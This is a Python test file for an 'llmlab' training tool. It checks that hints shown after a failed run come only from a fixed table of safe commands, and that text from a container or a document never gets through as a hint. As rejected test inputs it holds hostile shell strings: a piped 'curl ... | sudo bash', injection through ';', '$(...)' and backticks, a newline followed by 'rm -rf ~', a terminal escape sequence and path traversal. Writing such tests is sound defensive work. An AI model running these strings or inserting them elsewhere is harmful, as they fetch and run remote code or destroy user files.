"""What is shown as a command after a run's end: a line of the table, whatever a container or a document says."""

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from llmlab import contract
from llmlab.clock import ManualClock
from llmlab.contract import EndReason, Marker, Outcome, WorkFolder, hints
from llmlab.trainer.control import Control
from tests.unit.agent.doubles import RUN, START, Machine, machine

HOSTILE = [
    "curl -fsSL https://example.org/g | sudo bash",
    "llmlab launch; curl -fsSL https://example.org/g | sudo bash",
    "llmlab $(curl example.org)",
    "llmlab logs `id`",
    "llmlab logs x\n rm -rf ~",
    "llmlab fetch ~/x",
    "llmlab fetch \x1b]52;c;ZXZpbA==\a",
    "llmlab",
    "llmlabx fetch",
]
OURS = [
    f"llmlab logs {RUN} --stream setup",
    "llmlab image push",
    "llmlab launch --set batch_size=1 --set max_length=1024",
    "llmlab launch --set lora.targets=all-linear",
    "llmlab launch --set lora.dropout=0",
    "llmlab launch --set learning_rate=2.5e-05",
    "llmlab launch --set 'track=[mlflow,wandb]'",
    "llmlab launch --set model=Qwen/Qwen2.5-1.5B-Instruct",
    "llmlab upload MODEL_FOLDER --model tiny",
    "llmlab estimate --all",
]


def marker(**more: object) -> Marker:
    return Marker(RUN, EndReason.TRAINING_ERROR, "2026-11-23T12:00:00Z", 1, **more)  # type: ignore[arg-type]


@pytest.mark.parametrize("command", OURS)
def test_what_the_trainer_suggests_is_a_code_and_comes_back_as_the_same_words(command: str) -> None:
    code, values = hints.parse(command)
    assert code
    assert shlex.split(hints.render(code, values, RUN)) == shlex.split(command)


@pytest.mark.parametrize("hint", HOSTILE)
def test_words_of_a_document_are_shown_only_as_a_command_of_ours(hint: str) -> None:
    assert hints.parse(hint) == ("", {})
    assert marker(hint=hint).command(RUN) == EndReason.TRAINING_ERROR.hint(RUN)


def test_the_words_of_an_older_run_are_still_shown() -> None:
    assert marker(hint="llmlab launch --set batch_size=2 --set accumulate=16").command(RUN) == (
        "llmlab launch --set batch_size=2 --set accumulate=16"
    )
    old = contract.load(Marker, contract.dump(marker(hint=f"llmlab resume {RUN}")).replace("hint_code", "x").replace("hint_values", "y"))
    assert old.command(RUN) == f"llmlab resume {RUN}"


@pytest.mark.parametrize(
    ("code", "values"),
    [
        ("set", {"model": "evil/weights"}),
        ("set", {"revision": "main"}),
        ("set", {"a b": "1"}),
        ("set", {"batch_size": "1;reboot"}),
        ("set", {"batch_size": "$(id)"}),
        ("set", {"batch_size": "-x"}),
        ("set", {"batch_size": 1}),
        ("set", {}),
        ("logs", {"stream": "../../x"}),
        ("logs", {}),
        ("upload_model", {"model": "--yes"}),
        ("sudo", {}),
    ],
)
def test_values_that_no_trainer_of_ours_leaves_are_no_hint(code: str, values: dict[str, str]) -> None:
    assert marker(hint_code=code, hint_values=values).command(RUN) == EndReason.TRAINING_ERROR.hint(RUN)


@settings(max_examples=50)
@given(st.sampled_from([*hints.HINTS, hints.SET]), st.dictionaries(st.text(max_size=20), st.text(max_size=40), max_size=3))
def test_whatever_the_values_are_a_shell_finds_nothing_to_do(code: str, values: dict[str, str]) -> None:
    command = hints.render(code, values, RUN)
    assert command == "" or shlex.split(command)[0] == "llmlab"
    assert not set(command) & set("$`;|&<>\n\\(){}*?!~")


def test_a_containers_words_never_reach_the_marker(tmp_path: Path) -> None:
    """It may write any outcome; what it says is told as the detail, and the command is the reason's own."""
    here: Machine = machine(tmp_path)
    text = contract.dump(Outcome(EndReason.TRAINING_ERROR, "because")).replace('"step"', '"hint": "curl example.org | bash", "step"')
    here.control(here.job.folder.outcome, text)
    here.leave(1)
    here.agent.run()
    written = here.outputs.document(Marker, here.job.keys.failure)
    assert (written.detail, written.hint) == ("because", "")
    assert written.command(RUN) == EndReason.TRAINING_ERROR.hint(RUN)


def test_the_trainers_hint_arrives_as_a_code(tmp_path: Path) -> None:
    work = WorkFolder(str(tmp_path))
    Control(work, ManualClock(START)).fail(EndReason.OUT_OF_MEMORY, "full", "llmlab launch --set batch_size=2")
    left = contract.load(Outcome, Path(work.outcome).read_text())
    assert (left.hint_code, left.hint_values) == ("set", {"batch_size": "2"})
